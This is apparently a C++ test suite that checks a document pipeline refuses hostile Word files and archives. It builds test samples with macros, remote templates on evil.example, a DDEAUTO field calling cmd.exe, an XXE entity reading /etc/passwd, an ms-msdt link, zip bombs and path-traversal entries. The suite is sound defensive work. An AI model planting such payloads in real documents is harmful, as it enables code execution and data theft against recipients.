// Layouts that somebody made to do harm: what acts or fetches when the letter is opened,
// and archives and trees that fill memory.
#include "pipeline/hostile.hpp"
#include "zip/archive.hpp"

namespace tongmun::pipeline {

namespace {

using opc::Package;

constexpr const char* document = "word/document.xml";

void add_to_body(Package& package, std::string_view markup) {
  replace_in(package, document, "<w:body>", "<w:body>" + std::string(markup));
}

void add_embedded(Package& package, std::string_view kind, const std::string& part,
                  const std::string& type) {
  package.set_part(part, "MZ");
  package.set_content_type(part, type);
  add_relationship(package, document, kind, part.substr(5), false);
}

std::string field(std::string_view instruction) {
  std::string runs = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
  // Word cuts instructions in pieces as it likes; so does who hides one.
  for (std::size_t at = 0; at < instruction.size(); at += 3)
    runs.append("<w:r><w:instrText xml:space=\"preserve\">")
        .append(instruction.substr(at, 3))
        .append("</w:instrText></w:r>");
  return runs + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
}

std::string repeated(std::string_view text, std::size_t count) {
  std::string all;
  all.reserve(text.size() * count);
  for (std::size_t i = 0; i < count; ++i) all += text;
  return all;
}

struct Case {
  const char* name;
  std::function<void(Package&)> change;
  const char *inside, *says;
};

void check(const Case& hostile) {
  SoundSample sample;
  sample.write(layout_file, layout_with(sample, hostile.change));
  INFO(hostile.name);
  check_refused(sample, {"TP0070", layout_file, hostile.inside, hostile.says});
}

const std::vector<Case>& acting() {
  static const std::vector<Case> cases = {
      {"macros by their part",
       [](Package& p) {
         add_embedded(p, "vbaProject", "word/vbaProject.bin",
                      "application/vnd.ms-office.vbaProject");
       },
       document, "macros"},
      {"macros by the type of the document",
       [](Package& p) {
         p.set_content_type(document,
                            "application/vnd.ms-word.document.macroEnabled.main+xml");
       },
       document, "macros"},
      {"macros that nothing leads to",
       [](Package& p) {
         p.set_part("word/a.bin", "x");
         p.set_content_type("word/a.bin", "application/vnd.ms-office.vbaProject");
       },
       "word/a.bin", "macros"},
      {"an OLE object",
       [](Package& p) {
         add_embedded(p, "oleObject", "word/embeddings/oleObject1.bin",
                      "application/vnd.openxmlformats-officedocument.oleObject");
       },
       document, "object"},
      {"an embedded package",
       [](Package& p) {
         add_embedded(p, "package", "word/embeddings/a.exe", "application/octet-stream");
       },
       document, "embedded"},
      {"an ActiveX control",
       [](Package& p) {
         add_embedded(p, "control", "word/activeX/activeX1.xml",
                      "application/vnd.ms-office.activeX+xml");
       },
       "word/activeX/activeX1.xml", "ActiveX"},
      {"an altChunk",
       [](Package& p) {
         add_embedded(p, "aFChunk", "word/chunk.html", "text/html");
         add_to_body(p, "<w:altChunk r:id=\"rIdHostile\"/>");
       },
       document, "altChunk"},
      {"a template on a server",
       [](Package& p) {
         add_relationship(p, "word/settings.xml", "attachedTemplate",
                          "https://evil.example/a.dotm", true);
       },
       "word/settings.xml", "https://evil.example/a.dotm"},
      {"a template on a server of the network",
       [](Package& p) {
         add_relationship(p, "word/settings.xml", "attachedTemplate",
                          "file://server/share/a.dotm", true);
       },
       "word/settings.xml", "server"},
      {"a frame",
       [](Package& p) {
         add_relationship(p, document, "frame", "https://evil.example/", true);
       },
       document, "frame"},
      {"a linked object",
       [](Package& p) {
         add_relationship(p, document, "oleObject", "file:///C:/a.xlsx", true);
       },
       document, "object"},
      {"a linked picture",
       [](Package& p) {
         add_relationship(p, document, "image", "https://evil.example/a.png", true);
       },
       document, "https://evil.example/a.png"},
      {"a picture of a drawing that is fetched",
       [](Package& p) {
         add_to_body(
             p,
             "<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\">"
             "<v:imagedata src=\"\\\\server\\a.png\"/></v:shape></w:pict></w:r></w:p>");
       },
       document, "server"},
      {"a target that is external without saying so",
       [](Package& p) {
         add_relationship(p, document, "image", "http://evil.example/a.png", false);
       },
       document, "http://evil.example/a.png"},
      {"INCLUDEPICTURE, cut in pieces",
       [](Package& p) {
         add_to_body(p, field(" INCLUDEPICTURE \"http://evil.example\" "));
       },
       document, "INCLUDEPICTURE"},
      {"DDEAUTO in small letters",
       [](Package& p) { add_to_body(p, field("ddeauto c:\\\\cmd.exe \"/k calc\"")); },
       document, "DDEAUTO"},
      {"a simple field that includes a text",
       [](Package& p) {
         add_to_body(
             p, "<w:p><w:fldSimple w:instr=\"INCLUDETEXT &quot;C:\\a&quot;\"/></w:p>");
       },
       document, "INCLUDETEXT"},
      {"a link field to a script",
       [](Package& p) { add_to_body(p, field("HYPERLINK \"javascript:alert(1)\"")); },
       document, "javascript:"},
      {"a link to an address that ends behind its scheme",
       [](Package& p) { add_relationship(p, document, "hyperlink", "mailto:", true); },
       document, "mailto:"},
  };
  return cases;
}

const std::vector<Case>& too_much() {
  static const std::vector<Case> cases = {
      {"entities",
       [](Package& p) {
         p.set_part(document,
                    "<!DOCTYPE a [<!ENTITY b \"c\">]>" +
                        p.part(document).substr(p.part(document).find("<w:document")));
       },
       document, "entity"},
      {"entities in a part that we never read",
       [](Package& p) {
         p.set_part("customXml/item1.xml",
                    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>");
         p.set_content_type("customXml/item1.xml", "application/xml");
       },
       "customXml/item1.xml", "entity"},
      {"a hundred thousand elements one in another",
       [](Package& p) { add_to_body(p, repeated("<w:sdt>", 100'000)); }, document,
       "deep"},
      {"tables in tables",
       [](Package& p) {
         add_to_body(p, repeated("<w:tbl><w:tr><w:tc>", 1000) +
                            repeated("</w:tc></w:tr></w:tbl>", 1000));
       },
       document, "deep"},
      {"a million elements in a small file",
       [](Package& p) { add_to_body(p, repeated("<w:p/>", 1'000'000)); }, document,
       "elements"},
      {"more XML than any layout has",
       [](Package& p) {
         p.set_part("word/big.xml",
                    "<a>" + std::string(std::size_t{17} << 20, 'x') + "</a>");
         p.set_content_type("word/big.xml", "application/xml");
       },
       "", ""},
      {"a million relationships",
       [](Package& p) {
         auto all = p.relationships(document);
         for (int i = 0; i < 20'000; ++i)
           all.push_back(
               {"r" + std::to_string(i), "http://example.org/kind", "a.xml", false});
         p.set_relationships(document, std::move(all));
       },
       "word/_rels/document.xml.rels", "bytes"},
  };
  return cases;
}

// ---- Archives

std::string little_endian(std::size_t value, std::size_t count) {
  std::string bytes;
  for (std::size_t i = 0; i < count; ++i, value >>= 8)
    bytes += static_cast<char>(value & 0xFF);
  return bytes;
}

// `count` entries of the central directory that all lead to the one local entry.
std::string overlapping(std::size_t count) {
  zip::Builder builder;
  builder.add("0000", std::string(500'000, 'a') + std::string(100, 'b'));
  const auto one = builder.finish();
  const auto directory = one.find("PK\x01\x02"), end = one.find("PK\x05\x06");
  std::string bytes = one.substr(0, directory);
  for (std::size_t i = 0; i < count; ++i) {
    auto entry = one.substr(directory, end - directory);
    const auto name = std::to_string(1000 + i);
    bytes += entry.replace(46, 4, name);
  }
  const auto size = bytes.size() - directory;
  return bytes + "PK\x05\x06" + std::string(4, '\0') + little_endian(count, 2) +
         little_endian(count, 2) + little_endian(size, 4) + little_endian(directory, 4) +
         std::string(2, '\0');
}

std::string patched(std::string bytes, std::string_view from, std::string_view to) {
  REQUIRE(from.size() == to.size());
  for (auto at = bytes.find(from); at != std::string::npos; at = bytes.find(from, at + 1))
    bytes.replace(at, from.size(), to);
  return bytes;
}

std::string with_entry(const std::string& name, std::string_view bytes) {
  zip::Builder builder;
  builder.add(name, bytes);
  return builder.finish();
}

struct ArchiveCase {
  const char *name, *code, *says;
  std::function<std::string()> bytes;
};

}  // namespace

TEST_CASE("a layout that acts or fetches when it is opened is refused, with its part",
          "[pipeline][hostile]") {
  check(GENERATE(from_range(acting())));
}

TEST_CASE("a layout with entities, or beyond all measure, is refused",
          "[pipeline][hostile]") {
  check(GENERATE(from_range(too_much())));
}

TEST_CASE(
    "links that lead anywhere but to the web, to mail or to a telephone are refused",
    "[pipeline][hostile]") {
  const std::string target = GENERATE(
      "file:///C:/Users/someone/list.docx", "javascript:alert(1)", "\\\\server\\share",
      "data:text/html,x", "C:\\list.docx", "ms-msdt:/id", "list.docx");
  SoundSample sample;
  sample.write(layout_file, layout_with(sample, [&](Package& package) {
                 add_relationship(package, document, "hyperlink", target, true);
               }));
  CAPTURE(target);
  check_refused(sample, {"TP0070", layout_file, document, "a link leads to"});
}

TEST_CASE("usual links, a template on a disk and a chart's workbook are no harm",
          "[pipeline][hostile]") {
  SoundSample sample;
  sample.write(
      layout_file, layout_with(sample, [](Package& package) {
        add_relationship(package, document, "hyperlink", "https://www.ohchr.org/", true);
        add_relationship(package, document, "hyperlink", "mailto:office@example.org",
                         true);
        add_relationship(package, "word/settings.xml", "attachedTemplate",
                         "file:///C:\\Users\\someone\\Templates\\Letter.dotm", true);
        package.set_part("word/charts/chart1.xml", "<a/>");
        package.set_content_type(
            "word/charts/chart1.xml",
            "application/vnd.openxmlformats-officedocument.drawingml.chart+xml");
        package.set_part("word/embeddings/a.xlsx", "PK");
        package.set_content_type(
            "word/embeddings/a.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        add_relationship(package, "word/charts/chart1.xml", "package",
                         "../embeddings/a.xlsx", false);
        add_to_body(package, field("HYPERLINK \\l \"part\"") + field("PAGE"));
      }));
  BuildOptions options;
  options.recipients = {"KR"};
  const auto report = build(sample, options);
  REQUIRE(report.works.size() == 1);
  CHECK(report.works[0].built);
  CHECK(report.works[0].letters > 0);
}

TEST_CASE("an archive made to harm is refused", "[pipeline][hostile]") {
  const ArchiveCase hostile = GENERATE(values<ArchiveCase>({
      {"a bomb", "TP0070", "at most", [] {
         return with_entry("word/a.xml", std::string(std::size_t{129} << 20, '\0'));
       }},
      {"overlapping entries", "TP0032", "overlap", [] { return overlapping(300); }},
      {"very many entries", "TP0070", "entries",
       [] {
         zip::Builder builder;
         for (int i = 0; i < 10'001; ++i)
           builder.add(std::to_string(i), std::string_view());
         return builder.finish();
       }},
      {"ZIP64", "TP0070", "ZIP64",
       [] {
         auto bytes = with_entry("a", "x");
         return bytes.replace(bytes.find("PK\x05\x06") + 10, 2, "\xFF\xFF");
       }},
      {"a wrong size", "TP0032", "",
       [&] {
         auto bytes = with_entry("[Content_Types].xml", std::string(200, 'a'));
         return bytes.replace(bytes.find("PK\x01\x02") + 24, 4, little_endian(201, 4));
       }},
      {"a path that climbs out", "TP0032", "not safe",
       [] { return patched(with_entry("word", "x"), "word", "../a"); }},
      {"an absolute path", "TP0032", "not safe",
       [] { return patched(with_entry("word", "x"), "word", "/etc"); }},
      {"a path of another system", "TP0032", "not safe",
       [] { return patched(with_entry("word", "x"), "word", "a\\.."); }},
      {"twins by case", "TP0032", "twice",
       [] {
         zip::Builder builder;
         builder.add("nama", std::string_view("x"));
         builder.add("name", std::string_view("x"));
         return patched(builder.finish(), "nama", "NAME");
       }},
  }));
  SoundSample sample;
  sample.write(layout_file, hostile.bytes());
  INFO(hostile.name);
  check_refused(sample, {hostile.code, layout_file, "", hostile.says});
}

TEST_CASE("entities in a Flat OPC layout are refused", "[pipeline][hostile]") {
  SoundSample sample;
  sample.write(
      layout_file,
      "<!DOCTYPE a [<!ENTITY b \"c\"><!ENTITY d \"&b;&b;\">]>"
      "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
      "&d;</pkg:package>");
  check_refused(sample, {"TP0070", layout_file, "", "entity"});
}

}  // namespace tongmun::pipeline
